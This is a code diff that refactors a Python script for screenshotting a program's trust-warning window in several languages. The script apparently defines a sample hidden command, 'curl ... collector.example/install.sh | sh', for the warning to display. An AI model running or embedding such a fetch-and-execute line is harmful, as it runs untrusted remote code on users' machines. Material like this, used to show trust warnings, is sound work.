@@ -8,15 +8,13 @@ window in both languages, writes FOLDER/trust-WHAT-LANGUAGE.png, and ends the cl
 """
 
 import json
-import os
 import pathlib
 import re
 import subprocess
-import sys
 import tempfile
 import time
 
-from rights_pictures import LOCALES, RECORDED, SETTLE_SECONDS, TOOLS, picture
+from rights_pictures import LOCALES, SETTLE_SECONDS, on_a_cluster, picture
 
 HIDDEN_PART = "curl --silent https://collector.example/install.sh | sh"
 
@@ -62,21 +60,14 @@ def allow():
     time.sleep(SETTLE_SECONDS)
 
 
-def main():
-    state, cardinal, folder = pathlib.Path(sys.argv[1]).absolute(), sys.argv[2], pathlib.Path(sys.argv[3])
-    folder.mkdir(parents=True, exist_ok=True)
-    try:
-        subprocess.run([str(TOOLS / "up"), "--state", str(state), "--replace", "--owner", str(os.getpid()), "--nodes",
-                        str(RECORDED / "nodes.json"), "--nodes", str(RECORDED / "pods.json")], check=True, stdout=subprocess.DEVNULL)
-        with tempfile.TemporaryDirectory(prefix="cardinal-trust-") as elsewhere:
-            shots = (("foreign", foreign(pathlib.Path(elsewhere), server_of(state)), lambda: None),
-                     ("unchecked", unchecked(state), lambda: None), ("badge", unchecked(state), allow))
-            for name, config, before in shots:
-                for language, locale in LOCALES:
-                    picture(cardinal, config, locale, folder / f"trust-{name}-{language}.png", before)
-    finally:
-        subprocess.run([str(TOOLS / "down"), "--state", str(state)], check=False, stdout=subprocess.DEVNULL)
+def take_pictures(state, cardinal, folder):
+    with tempfile.TemporaryDirectory(prefix="cardinal-trust-") as elsewhere:
+        shots = (("foreign", foreign(pathlib.Path(elsewhere), server_of(state)), lambda: None),
+                 ("unchecked", unchecked(state), lambda: None), ("badge", unchecked(state), allow))
+        for name, config, before in shots:
+            for language, locale in LOCALES:
+                picture(cardinal, config, locale, folder / f"trust-{name}-{language}.png", before)
 
 
 if __name__ == "__main__":
-    main()
+    on_a_cluster(take_pictures)
